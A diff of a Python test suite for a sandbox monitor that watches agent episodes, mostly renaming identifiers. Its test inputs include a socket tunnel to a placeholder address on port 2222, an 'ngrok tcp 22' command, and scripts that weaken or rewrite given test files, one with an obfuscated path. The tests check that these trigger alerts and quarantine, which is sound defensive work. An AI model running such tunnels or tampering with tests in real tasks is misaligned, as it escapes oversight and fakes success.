@@ -1,4 +1,4 @@
-"""Episodes in watched boxes: what they try is told with the turn that tried it, and alarming ones are stopped."""
+"""Episodes in watched sandboxes: what they try is told with the turn that tried it, and alarming ones are stopped."""
 
 import json
 from contextlib import asynccontextmanager, suppress
@@ -10,8 +10,8 @@ from scripted import ScriptedPolicy, answer, call
 
 from engine.rollout.episode import run_episode
 from engine.rollout.sandbox_monitor import MonitoredSandbox, SandboxMonitor
-from engine.rollout.security_log import AlertSeen, SecurityLog, Sighting, label_of, place_of
-from engine.spec.security import Place, Response
+from engine.rollout.security_log import AlertEntry, SecurityLog, SecurityLogEntry, label_of, origin_of
+from engine.spec.security import Origin, Response
 from sandboxes.egress.detectors.finding import Finding
 from sandboxes.interface import SandboxFrozen, SandboxLost
 from sandboxes.pool import Pool
@@ -21,14 +21,14 @@ TUNNEL = 'import socket;s=socket.create_connection(("203.0.113.7",2222),2);s.sen
 """Speaks first, as a server of SSH does that was reached from within."""
 QUIET = 'import socket;socket.create_connection(("203.0.113.7",443),2)'
 FINDING = Finding(
-    rule="ssh-outbound", severity="critical", category="Controllability", attack="T1572", title="t", box="box", at=0.0,
+    rule="ssh-outbound", severity="critical", category="Controllability", attack="T1572", title="t", sandbox="sandbox", at=0.0,
     label=None, subject="s", evidence=(),
 )  # fmt: skip
 SPEC = SandboxSpec(network="watched", timeout_s=3.0, memory_mib=128)
 
 
 class Watch:
-    """A pool of watched boxes, their monitor, and what it wrote down."""
+    """A pool of watched sandboxes, their monitor, and what it wrote down."""
 
     def __init__(self, pool, monitor, folder, actions):
         self.pool, self.monitor, self._folder, self.actions = pool, monitor, folder, actions
@@ -40,8 +40,8 @@ class Watch:
 
     def seen(self, kind):
         lines = [line for path in self._folder.glob("*.jsonl") for line in path.read_bytes().splitlines()]
-        sightings = [TypeAdapter(Sighting).validate_json(line) for line in lines]
-        return [sighting for sighting in sightings if sighting.kind == kind]
+        entries = [TypeAdapter(SecurityLogEntry).validate_json(line) for line in lines]
+        return [entry for entry in entries if entry.kind == kind]
 
 
 @asynccontextmanager
@@ -60,61 +60,63 @@ async def watching(folder, spec=SPEC, **response):
         await monitor.close()
 
 
-async def test_a_tunnel_in_the_third_turn_ends_the_episode_there_and_is_told_with_that_turn(tmp_path):
+async def test_a_tunnel_in_the_third_turn_ends_the_episode_there_and_is_reported_with_that_turn(tmp_path):
     async with watching(tmp_path) as watch:
         played = await watch.play(call("a=6"), call("print(a*7)"), call(TUNNEL), call("print(1)"), answer("42"))
     assert played.masked_because == "quarantined"
     classes = [turn.tool_call and turn.tool_call.error_class for turn in played.turns]
-    # Where the finding came when its call was over, the next call finds the box frozen, or the answer comes first.
+    # Where the finding came when its call was over, the next call finds the sandbox frozen, or the answer comes first.
     assert classes in ([None, None, "frozen"], [None, None, "other", "frozen"]) or played.stop_reason == "answered"
     assert not played.success or played.stop_reason == "answered"
     [alert] = [one for one in watch.seen("alert") if one.finding.severity == "critical"]
     assert alert.quarantined
     assert played.alerts == [alert.id]
-    assert alert.place == Place(trajectory=played.id, turn=2)
+    assert alert.origin == Origin(trajectory=played.id, turn=2)
     assert alert.finding.rule == "ssh-outbound"
     records = watch.seen("record")
-    assert {(record.place.trajectory, record.place.turn) for record in records} == {(played.id, 2)}
+    assert {(record.origin.trajectory, record.origin.turn) for record in records} == {(played.id, 2)}
     assert {(record.record.attempt.address, record.record.attempt.port) for record in records} == {
         ("203.0.113.7", 2222)
     }
-    assert not any(record.record.verdict.allowed for record in records)
+    assert not any(record.record.decision.allowed for record in records)
 
 
-async def test_the_turn_of_an_alert_is_told_while_the_episode_goes_on_and_again_with_its_output(tmp_path):
+async def test_the_turn_of_an_alert_is_reported_while_the_episode_goes_on_and_again_with_its_output(tmp_path):
     async with watching(tmp_path) as watch:
         played = await watch.play(call("a=6"), call(TUNNEL), call("print(1)"), answer("42"))
     [alert] = [one for one in watch.seen("alert") if one.finding.severity == "critical"]
-    turns = [one for one in watch.seen("turn") if one.place == alert.place]
+    turns = [one for one in watch.seen("turn") if one.origin == alert.origin]
     kinds = [json.loads(line)["kind"] for path in tmp_path.glob("*.jsonl") for line in path.read_bytes().splitlines()]
     assert kinds.index("turn") < kinds.index("alert")
     assert {turn.text.call for turn in turns} == {TUNNEL}
     assert TUNNEL in turns[0].text.wrote
-    ended = played.turns[alert.place.turn].tool_call
+    ended = played.turns[alert.origin.turn].tool_call
     assert (turns[-1].text.output, turns[-1].text.error_class) == (ended.output, ended.error_class)
-    assert {one.place.turn for one in watch.seen("turn")} <= {alert.place.turn, alert.place.turn + 1}
+    assert {one.origin.turn for one in watch.seen("turn")} <= {alert.origin.turn, alert.origin.turn + 1}
 
 
-async def test_turns_without_an_alert_are_told_nowhere(tmp_path):
+async def test_turns_without_an_alert_are_reported_nowhere(tmp_path):
     async with watching(tmp_path) as watch:
         await watch.play(call(QUIET), call("print(40+2)"), answer("42"))
         assert watch.seen("turn") == []
         assert watch.monitor.turns._texts == {}
 
 
-async def test_when_an_episode_is_over_all_that_its_box_did_was_judged_with_its_turns(tmp_path):
+async def test_when_an_episode_is_over_all_that_its_sandbox_did_was_judged_with_its_turns(tmp_path):
     async with watching(tmp_path) as watch:
         turns = [call(f"import os;os.system('exec /usr/bin/id');open('file-{number}','w')") for number in range(3)]
         played = await watch.play(*turns, answer("42"))
-        told = {(action.label, action.kind, action.path or action.argv[-1]) for action in watch.actions}
-    labels = [label_of(Place(trajectory=played.id, turn=number)) for number in range(3)]
-    assert {one for one in told if one[1] == "file"} == {
+        reported = {(action.label, action.kind, action.path or action.argv[-1]) for action in watch.actions}
+    labels = [label_of(Origin(trajectory=played.id, turn=number)) for number in range(3)]
+    assert {one for one in reported if one[1] == "file"} == {
         (label, "file", f"/work/file-{number}") for number, label in enumerate(labels)
     }
-    assert {one for one in told if one[2] == "/usr/bin/id"} == {(label, "program", "/usr/bin/id") for label in labels}
+    assert {one for one in reported if one[2] == "/usr/bin/id"} == {
+        (label, "program", "/usr/bin/id") for label in labels
+    }
 
 
-async def test_a_box_that_waits_in_its_call_is_stopped_in_it(tmp_path):
+async def test_a_sandbox_that_waits_in_its_call_is_stopped_in_it(tmp_path):
     lingering = TUNNEL.replace("s.recv(9)", "s") + ";import time;time.sleep(3)"
     async with watching(tmp_path) as watch:
         played = await watch.play(call(lingering), call("print(1)"), answer("42"))
@@ -140,14 +142,14 @@ async def test_a_program_is_enough(tmp_path):
         played = await watch.play(call(PROGRAM), call("print(1)"), answer("42"))
     alarming = [one for one in watch.seen("alert") if one.quarantined]
     assert played.alerts == [one.id for one in alarming]
-    assert {(one.finding.rule, one.place.turn) for one in alarming} == {("tunnel-program", 0)}
+    assert {(one.finding.rule, one.origin.turn) for one in alarming} == {("tunnel-program", 0)}
 
 
 async def test_text_is_a_hint_and_freezes_nobody(tmp_path):
     async with watching(tmp_path) as watch:
         played = await watch.play(call('import os;os.system("ngrok tcp 22")'), call("print(40+2)"), answer("42"))
     assert played.alerts == []
-    assert {(one.finding.severity, one.place.turn) for one in watch.seen("alert")} == {("info", 0)}
+    assert {(one.finding.severity, one.origin.turn) for one in watch.seen("alert")} == {("info", 0)}
 
 
 async def test_a_document_about_attacks_and_many_ports_of_ones_own_alarm_nobody(tmp_path):
@@ -160,11 +162,11 @@ async def test_a_document_about_attacks_and_many_ports_of_ones_own_alarm_nobody(
     )
     async with watching(tmp_path) as watch:
         episode = watch.monitor.episode(watch.pool, "train-0-0")
-        async with episode.acquire() as box:
-            await box.write_file("attacks.md", document.encode())
-            await box.exec(["bash", "-c", f"cat > more.md <<'EOF'\n{document}EOF\nwc -l more.md"])
-            await box.run_python(ports)
-            assert not box.frozen
+        async with episode.acquire() as sandbox:
+            await sandbox.write_file("attacks.md", document.encode())
+            await sandbox.exec(["bash", "-c", f"cat > more.md <<'EOF'\n{document}EOF\nwc -l more.md"])
+            await sandbox.run_python(ports)
+            assert not sandbox.frozen
     assert [one for one in watch.seen("alert") if one.finding.severity != "info"] == []
 
 
@@ -173,23 +175,23 @@ async def test_a_test_that_was_there_is_not_the_policys_to_change(tmp_path):
         episode = watch.monitor.episode(watch.pool, "train-0-0")
         async with watch.pool.acquire() as environments, watch.monitor.holding(environments, episode):
             await environments.write_file("tests/test_given.py", b"def test_a():\n    assert 1 == 2\n")
-            box = MonitoredSandbox(environments, watch.monitor, episode)
-            await box.write_file("tests/test_own.py", b"def test_b():\n    assert True\n")
-            await box.write_file("tests/test_own.py", b"def test_b():\n    assert 1\n")
+            sandbox = MonitoredSandbox(environments, watch.monitor, episode)
+            await sandbox.write_file("tests/test_own.py", b"def test_b():\n    assert True\n")
+            await sandbox.write_file("tests/test_own.py", b"def test_b():\n    assert 1\n")
             episode.turn = 1
-            await box.write_file("tests/test_given.py", b"def test_a():\n    assert True\n")
+            await sandbox.write_file("tests/test_given.py", b"def test_a():\n    assert True\n")
     alarms = [one for one in watch.seen("alert") if one.finding.severity != "info"]
-    assert {(alarm.finding.rule, alarm.place.turn, alarm.finding.subject) for alarm in alarms} == {
+    assert {(alarm.finding.rule, alarm.origin.turn, alarm.finding.subject) for alarm in alarms} == {
         ("tamper-tests", 1, "/work/tests/test_given.py")
     }
 
 
-async def test_what_is_denied_and_not_alarming_is_only_told(tmp_path):
+async def test_what_is_denied_and_not_alarming_is_only_reported(tmp_path):
     async with watching(tmp_path) as watch:
         played = await watch.play(call(QUIET), call("print(40+2)"), answer("42"))
     assert played.masked_because is None
     assert played.stop_reason == "answered"
-    assert [one.place.turn for one in watch.seen("record")] == [0]
+    assert [one.origin.turn for one in watch.seen("record")] == [0]
 
 
 @pytest.mark.parametrize(
@@ -207,14 +209,14 @@ async def test_the_environment_decides_what_is_alarming(tmp_path, response, quar
 async def test_an_episode_that_is_reset_is_still_watched_under_its_new_name(tmp_path):
     async with watching(tmp_path) as watch:
         episode = watch.monitor.episode(watch.pool, "train-0-0")
-        async with episode.acquire() as box:
-            before = box.name
-            await box.reset()
-            assert box.name != before
+        async with episode.acquire() as sandbox:
+            before = sandbox.name
+            await sandbox.reset()
+            assert sandbox.name != before
             with suppress(SandboxFrozen):  # in the call, or after it
-                await box.run_python(TUNNEL)
+                await sandbox.run_python(TUNNEL)
             await episode.settled()
-            assert box.frozen
+            assert sandbox.frozen
         assert episode.alerts
 
 
@@ -232,41 +234,41 @@ async def test_every_attempt_of_a_flood_is_counted_although_few_records_are_take
     assert len(records) < 3000
 
 
-async def test_a_box_that_is_lost_while_it_is_frozen_costs_nobody_else(tmp_path):
+async def test_a_sandbox_that_is_lost_while_it_is_frozen_costs_nobody_else(tmp_path):
     async with watching(tmp_path) as watch:
         episode = watch.monitor.episode(watch.pool, "train-0-0")
-        async with episode.acquire() as box:
-            await box.close()
+        async with episode.acquire() as sandbox:
+            await sandbox.close()
             with pytest.raises(SandboxLost):
-                await box.run_python(TUNNEL)
+                await sandbox.run_python(TUNNEL)
             await episode.settled()
         assert (await watch.play(call("print(1)"), answer("42"))).masked_because is None
 
 
 @pytest.mark.parametrize("label", [None, "", "other", "#", "a#b", "a#-1"])
 def test_only_labels_of_ours_name_a_place(label):
-    assert place_of(label) is None
+    assert origin_of(label) is None
 
 
 def test_a_place_survives_its_label():
-    place = Place(trajectory="train-0-1", turn=12)
-    assert place_of(label_of(place)) == place
+    origin = Origin(trajectory="train-0-1", turn=12)
+    assert origin_of(label_of(origin)) == origin
 
 
 def test_an_alert_that_cannot_be_written_is_written_before_whatever_comes_next(tmp_path):
     """Nobody else keeps it."""
-    folder = tmp_path / "sightings"
+    folder = tmp_path / "security-log"
     folder.write_text("in the way")
     log = SecurityLog(folder)
 
-    log.write_or_owe(AlertSeen(id="box/1", place=None, finding=FINDING, quarantined=True))
+    log.write_or_owe(AlertEntry(id="sandbox/1", origin=None, finding=FINDING, quarantined=True))
     folder.unlink()
-    log.write_or_owe(AlertSeen(id="box/2", place=None, finding=FINDING, quarantined=True))
+    log.write_or_owe(AlertEntry(id="sandbox/2", origin=None, finding=FINDING, quarantined=True))
     log.close()
     [path] = folder.glob("*.jsonl")
-    assert [TypeAdapter(Sighting).validate_json(line).id for line in path.read_bytes().splitlines()] == [
-        "box/1",
-        "box/2",
+    assert [TypeAdapter(SecurityLogEntry).validate_json(line).id for line in path.read_bytes().splitlines()] == [
+        "sandbox/1",
+        "sandbox/2",
     ]
 
 
@@ -277,14 +279,14 @@ EDIT = "import pathlib\nfor p in pathlib.Path('tests').glob('*.py'): p.write_tex
 async def test_a_test_that_follows_a_renamed_function_raises_no_alarm_and_a_weakened_one_does(tmp_path):
     async with watching(tmp_path) as watch:
         episode = watch.monitor.episode(watch.pool, "t")
-        async with episode.acquire() as box:
-            await box._box.write_file("tests/test_sum.py", ASKED)  # the environment's
+        async with episode.acquire() as sandbox:
+            await sandbox._sandbox.write_file("tests/test_sum.py", ASKED)  # the environment's
             for turn, (old, new) in enumerate([("add", "plus"), ("== 3", "> 0")]):
                 episode.turn = turn
-                assert (await box.run_python(EDIT.format(old, new))).outcome == "ok"
-            assert b"plus(1, 2) > 0" in await box.read_file("tests/test_sum.py")
+                assert (await sandbox.run_python(EDIT.format(old, new))).outcome == "ok"
+            assert b"plus(1, 2) > 0" in await sandbox.read_file("tests/test_sum.py")
     loud = [one for one in watch.seen("alert") if one.finding.severity != "info"]
-    assert {(one.finding.rule, one.place.turn) for one in loud} == {("tamper-tests", 1)}
+    assert {(one.finding.rule, one.origin.turn) for one in loud} == {("tamper-tests", 1)}
 
 
 WEAKER = "t = 'tests/test_sum.py'; open(t, 'w').write('def test_sum(): pass')\n"
@@ -305,9 +307,9 @@ async def test_what_hides_a_weakened_test_from_the_comparison_raises_the_alarm(t
     for spelled in (code, code.replace("'tests/test_sum.py'", "'tests' + '/test_' + 'sum.py'")):
         async with watching(tmp_path) as watch:
             episode = watch.monitor.episode(watch.pool, "t")
-            async with episode.acquire() as box:
-                await box._box.write_file("tests/test_sum.py", ASKED)  # the environment's
-                assert (await box.run_python(spelled)).outcome == "ok"
+            async with episode.acquire() as sandbox:
+                await sandbox._sandbox.write_file("tests/test_sum.py", ASKED)  # the environment's
+                assert (await sandbox.run_python(spelled)).outcome == "ok"
         loud = [seen.finding.rule for seen in watch.seen("alert") if seen.finding.severity != "info"]
         assert loud == ["tamper-tests"], spelled
         for file in tmp_path.iterdir():
